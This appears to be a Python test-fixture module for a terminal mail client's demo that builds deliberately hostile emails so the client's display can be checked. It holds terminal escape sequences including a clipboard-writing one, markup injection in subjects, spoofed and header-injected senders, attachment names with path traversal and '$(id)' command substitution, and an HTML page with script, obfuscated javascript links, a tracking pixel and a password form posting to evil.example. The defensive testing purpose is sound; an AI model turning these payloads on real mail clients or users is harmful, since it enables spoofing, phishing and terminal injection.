"""Messages that try things on their reader. They are harmless; a reader shows them.

Terminal commands in headers, markup in subjects, names that lie about who wrote or
about what a file is, and messages that are hardly messages.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from datetime import datetime
from email.utils import format_datetime
from functools import partial

from tuimail.demo.compose import file_part, multipart, text_part

Make = Callable[[datetime], bytes]

_MALLORY = b"Mallory <mallory@evil.example>"
HEADERS: tuple[tuple[bytes, bytes], ...] = (
    (_MALLORY, b"[/b] plan"),
    (_MALLORY, b"[@click=app.quit]x[/]"),
    (_MALLORY, b"[link=https://evil.example]free[/link] $text [red"),
    (_MALLORY, b"=?utf-8?q?=1B]52;c;cHduZWQ=3D=1B=5C?= look in your clipboard"),
    (_MALLORY, b"=?utf-8?q?=1B[2J=07=0D=0AX:_y?="),
    (_MALLORY, b"=?iso-8859-1?q?=9B31mX=9D0;PWN=9C?="),
    (_MALLORY, b"\x1b]8;;https://evil.example\x1b\\raw escape\x1b]8;;\x1b\\"),
    (_MALLORY, b"=?utf-8?b?4oCuIHR4ZXQgZGVzcmV2ZXI=?="),
    (_MALLORY, b"Z" + b"\xcc\x81" * 200 + b"algo"),
    (b'"boss@linia14.example" <mallory@evil.example>', b"Please pay this today"),
    (
        b"=?utf-8?b?Ym9zc0BsaW5pYTE0LmV4YW1wbGU=?==?utf-8?Q?=00?="
        b"=?utf-8?b?Ym9zc0BsaW5pYTE0LmV4YW1wbGU=?=@evil.example",
        b"From two people at once",
    ),
    (
        b"=?utf-8?q?boss=40linia14=2Eexample=3C=0A=0A?= <mallory@evil.example>",
        b"A line end in a name",
    ),
    (
        "аdmin@exаmple.org <mallory@evil.example>".encode(),
        b"Letters that look like others",
    ),
    (b'"' + b"Ana" + b" " * 300 + b'" <mallory@evil.example>', b"A very wide name"),
    (_MALLORY + b"\r\nFrom: Ana Moreira <ana@example.org>", b"Two authors"),
    (b"", b"Nobody wrote this"),
)
"""From and Subject as octets."""

NAMES = (
    'filename="../../.bashrc"',
    'filename="..\\\\..\\\\autorun.exe"',
    "filename*=utf-8''invoice%E2%80%AEfdp.exe",
    "filename*=utf-8''..%2F..%2Fetc%2Fpasswd",
    'filename="-rf"',
    'filename="$(id).pdf"',
    'filename="CON"',
    'filename="=?utf-8?q?a=1B[2J=0Ab?=.txt"',
    'filename=""',
    'filename="report.pdf                                            .exe"',
)
"""File names as a Content-Disposition gives them."""

_PAGE = """\
<html><head><script>alert(1)</script><base href="https://evil.example/"></head>
<body onload="alert(1)"><p>Your bank: <a href="https://evil.example/">https://bank.example</a>
<a href="https://bank.example@evil.example/">here</a> <a href="file:///etc/passwd">file</a>
<a href="jav&#x09;ascript:alert(1)">now</a> &#27;]0;title&#7; &#x9b;2J</p>
<p style="font-size:0">nobody can see this</p>
<img src="https://evil.example/pixel.gif" width=1 height=1>
<form action="https://evil.example/"><input name=password></form></body></html>
"""


def messages() -> Iterator[Make]:
    """Makers of all of them, each given the moment when the message came."""
    for author, subject in HEADERS:
        yield partial(_simple, author, subject)
    yield _bad_names
    yield _bad_page
    yield _cut_off
    yield lambda _: b"\x00\xff this is not a message at all\r\n" * 3
    yield lambda _: b"Subject: only a header, and no end of it"
    yield _deep


def _head(author: bytes, subject: bytes, moment: datetime) -> bytes:
    lines = b"From: " + author + b"\r\n" if author else b""
    date = format_datetime(moment).encode()
    return lines + (
        b"To: Ana Moreira <ana@example.org>\r\nSubject: " + subject + b"\r\n"
        b"Date: " + date + b"\r\nMIME-Version: 1.0\r\n"
    )


def _simple(author: bytes, subject: bytes, moment: datetime) -> bytes:
    body = b"\x1b[31mred\x1b[0m \x07 bell, \x1b]0;title\x07 and [b]no bold[/b].\r\n"
    return _head(author, subject, moment) + b"\r\n" + body


def _bad_names(moment: datetime) -> bytes:
    parts = [text_part("Ten files.\n", "text/plain")]
    parts += [
        file_part(name, "application/octet-stream", b"harmless\n") for name in NAMES
    ]
    head = _head(_MALLORY, b"Ten attachments with bad names", moment)
    return head + multipart("mixed", parts)


def _bad_page(moment: datetime) -> bytes:
    head = _head(_MALLORY, b"A page with everything", moment)
    return head + text_part(_PAGE, "text/html; charset=utf-8")


def _cut_off(moment: datetime) -> bytes:
    whole = multipart("mixed", [text_part("This was cut.\n" * 20, "text/plain")])
    return _head(_MALLORY, b"Cut off in the middle", moment) + whole[:-180]


def _deep(moment: datetime) -> bytes:
    part = text_part("The bottom.\n", "text/plain")
    for _ in range(30):
        part = multipart("mixed", [part])
    return _head(_MALLORY, b"Thirty boxes in one another", moment) + part
